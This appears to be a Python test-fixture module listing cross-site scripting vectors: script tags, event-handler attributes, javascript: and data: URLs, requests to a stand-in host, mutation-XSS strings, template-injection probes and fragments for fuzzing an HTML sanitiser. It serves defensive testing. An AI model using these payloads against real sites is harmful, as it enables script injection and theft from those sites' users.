"""Texts that try to run a script or to send a request when a page shows them: one for each known way in.

Each calls `ran()` where a script runs, or asks `http://elsewhere.test`; a page that shows all of them does
neither.
"""

from __future__ import annotations

ELSEWHERE = "http://elsewhere.test"

SCRIPTS = (
    "<script>ran()</script>",
    "<SCRIPT>ran()</SCRIPT >",
    "<script/x>ran()</script>",
    "<scr<script>ipt>ran()</scr</script>ipt>",
    "</script><script>ran()</script>",
    "<script type=module>ran()</script>",
    f"<script src={ELSEWHERE}/s.js></script>",
    "<script src=//elsewhere.test/s.js defer></script>",
    "<!--<script>-->ran()</script><!--",
    "<!--><script>ran()</script>-->",
    "<!--!><script>ran()</script>",
    "<![CDATA[<script>ran()</script>]]>",
    "<?xml <script>ran()</script>?>",
    "\x00<script>ran()</script>".replace("\x00", "�"),
    "＜script＞ran()＜/script＞",
    "%3Cscript%3Eran()%3C/script%3E",
    "&lt;script&gt;ran()&lt;/script&gt;",
    "&#60;script&#62;ran()&#60;/script&#62;",
    "\\u003cscript\\u003eran()\\u003c/script\\u003e",
)
HANDLERS = (
    "<img src=x onerror=ran()>",
    "<img src=x onerror=&#114;an()>",
    "<img/src='x'/onerror='ran()'>",
    "<img src=x:x onerror\n=ran()>",
    "<svg onload=ran()>",
    "<svg><animate onbegin=ran() attributeName=x dur=1s>",
    "<body onload=ran()>",
    "<input autofocus onfocus=ran()>",
    "<details open ontoggle=ran()>",
    "<video><source onerror=ran()></video>",
    "<marquee onstart=ran()>x</marquee>",
    "<p onpointerover=ran() tabindex=0 autofocus onfocus=ran()>x</p>",
    "<a href=x onfocus=ran() autofocus>x</a>",
    "<style>@keyframes k{from{}}</style><p style='animation:k 1s' onanimationstart=ran()>x</p>",
    '" onfocus=ran() autofocus tabindex=0 x="',
    "' onfocus=ran() autofocus tabindex=0 x='",
    "` onfocus=ran() autofocus tabindex=0 x=`",
    '"><img src=x onerror=ran()>',
    "'><svg/onload=ran()>",
    "<div popover id=x onbeforetoggle=ran()>x</div><button popovertarget=x autofocus>y</button>",
)
ADDRESSES = (
    "<a href='javascript:ran()'>go</a>",
    "<a href='JaVaScRiPt:ran()'>go</a>",
    "<a href=' \tjavascript:ran()'>go</a>",
    "<a href='java\nscript:ran()'>go</a>",
    "<a href='javascript&colon;ran()'>go</a>",
    "<a href='&#106;avascript:ran()'>go</a>",
    "<a href='data:text/html,<script>opener.ran()</script>'>go</a>",
    "<a href='vbscript:ran()'>go</a>",
    "<form action='javascript:ran()'><button autofocus>go</button></form>",
    "<iframe src='javascript:parent.ran()'></iframe>",
    "<iframe srcdoc='<script>parent.ran()</script>'></iframe>",
    "<object data='javascript:ran()'></object>",
    "<embed src='javascript:ran()'>",
    "<base href='http://elsewhere.test/'>",
    "<meta http-equiv=refresh content='0;url=http://elsewhere.test/'>",
    "<q cite='javascript:ran()'>said</q>",
    "<blockquote cite='javascript:ran()'>said</blockquote>",
    "javascript:ran()",
)
REQUESTS = (
    f"<img src={ELSEWHERE}/i.png>",
    f"<img srcset='{ELSEWHERE}/i.png 1x'>",
    f"<picture><source srcset={ELSEWHERE}/i.png><img></picture>",
    f"<link rel=stylesheet href={ELSEWHERE}/s.css>",
    f"<link rel=preconnect href={ELSEWHERE}>",
    f"<style>@import url({ELSEWHERE}/s.css);</style>",
    f"<p style='background:url({ELSEWHERE}/i.png)'>x</p>",
    f"<svg><image href={ELSEWHERE}/i.png></svg>",
    f"<svg><use href={ELSEWHERE}/i.svg#x></svg>",
    f"<video poster={ELSEWHERE}/i.png src={ELSEWHERE}/v.mp4></video>",
    f"<audio src={ELSEWHERE}/a.mp3 autoplay></audio>",
    f"<iframe src={ELSEWHERE}></iframe>",
    f"<object data={ELSEWHERE}></object>",
    f"<table background={ELSEWHERE}/i.png><tr><td background={ELSEWHERE}/i.png>x</td></tr></table>",
)
MUTANTS = (
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=ran()&gt;'>",
    '<svg></p><style><a id="</style><img src=x onerror=ran()>">',
    '<noscript><p title="</noscript><img src=x onerror=ran()>"></noscript>',
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=ran()>",
    "<math><annotation-xml encoding=text/html><style><img src=x onerror=ran()></style></annotation-xml>",
    "<select><template><style><img src=x onerror=ran()></style></template></select>",
    "<textarea><img title='</textarea><img src=x onerror=ran()>'>",
    "<title><img title='</title><img src=x onerror=ran()>'>",
    "<xmp><img title='</xmp><img src=x onerror=ran()>'>",
    "<table><caption><svg><desc><table><caption></caption></table></desc><style><img src=x onerror=ran()>",
    "<p><table><tr><td><p><a href='x'><table><a href='javascript:ran()' autofocus onfocus=ran()>y",
    "<template shadowrootmode=open><img src=x onerror=ran()></template>",
    "<pre>\n<img src=x onerror=ran()></pre>",
)
TEMPLATES = (
    "{{ 7*7 }}",
    "{% for x in y %}{{ x }}{% endfor %}",
    "{{ self.__init__.__globals__ }}",
    "${ran()}",
)

VECTORS = (*SCRIPTS, *HANDLERS, *ADDRESSES, *REQUESTS, *MUTANTS, *TEMPLATES)

PIECES = (
    "<math>", "</math>", "<svg>", "</svg>", "<mtext>", "<mglyph>", "<desc>", "<title>", "</title>",
    "<foreignObject>", "<style>", "</style>", "<!--", "-->", "<table>", "<caption>", "<tr><td>",
    "</table>", "<p>", "</p>", "<a href='x'>", "</a>", "<select>", "<option>", "<template>",
    "</template>", "<noscript>", "</noscript>", "<form>", "</form>", "<pre>", "<textarea>", "</textarea>",
    "<xmp>", "</xmp>", "<plaintext>", "<li>", "<blockquote>", "<figure>", "<q>", "<em>", "</em>",
    "<b><i>", "</b>", "<img src=x onerror=ran()>", "<svg onload=ran()>", "<script>ran()</script>",
    "<a href='javascript:ran()' onfocus=ran() autofocus>", "<p title='", "'>", '"', "`", "&lt;", "&gt;",
    "&quot;", "&#x3c;img src=x onerror=ran()&#x3e;", "<annotation-xml encoding='text/html'>", "<![CDATA[",
    "]]>", "words", "\n",
)  # fmt: skip
"""Of these a body is put together at random: the mutations that a cleaner and a browser read differently."""
